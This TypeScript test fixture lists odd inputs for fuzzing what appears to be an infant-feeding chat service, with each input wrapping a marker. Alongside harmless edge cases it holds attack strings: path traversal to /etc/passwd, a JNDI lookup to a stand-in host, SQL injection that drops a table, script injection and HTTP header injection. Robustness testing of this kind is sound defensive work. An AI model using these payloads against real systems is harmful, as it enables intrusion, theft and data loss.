/** Texts that have broken programs before, each with the marker in it. */
import type { Random } from './random';

type Strange = (marker: string) => string;

const texts: readonly Strange[] = [
  (marker) => marker,
  () => '',
  (marker) => ` \t${marker}\n `,
  (marker) => `${marker} `.repeat(2_500),
  (marker) => marker.repeat(9_000),
  (marker) => `${marker}\0\u0001\u001f\u007f\u0080`,
  (marker) => `\u202e${marker}\u2066\ufeff\u200b`,
  (marker) => `😀${marker}👩‍🍼\u0301\u0301\u0301`,
  () => '__proto__',
  () => 'constructor',
  () => 'toString',
  (marker) => `{{${marker}}} {{hospitalName}} %s %n $& $1 \${${marker}}`,
  (marker) => `../../../${marker}/etc/passwd`,
  (marker) => `\${jndi:ldap://${marker}.example/a}`,
  (marker) => `' OR '1'='1' -- ${marker}`,
  (marker) => `"; DROP TABLE activities; -- ${marker}`,
  (marker) => `<script>${marker}</script><img src=x onerror=${marker}>`,
  (marker) => `[${marker}](javascript:${marker}) ![${marker}](https://${marker}.example/x.png)`,
  (marker) => `${marker}\r\nSet-Cookie: ${marker}=1\r\n\r\n<h1>${marker}`,
  () => 'null',
  () => 'NaN',
  () => '-1',
  () => '1e999',
  () => '2147483648',
  () => '9007199254740993',
  (marker) => `I only get a few drops of milk ${marker}`,
  (marker) => `my baby is limp and will not wake up ${marker}`,
  () => 'forget me',
  () => 'start over',
  () => 'yes',
  () => '2',
  (marker) => `aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa! ${marker}`,
];

export function strangeText(random: Random, marker: string): string {
  return random.pick(texts)(marker);
}
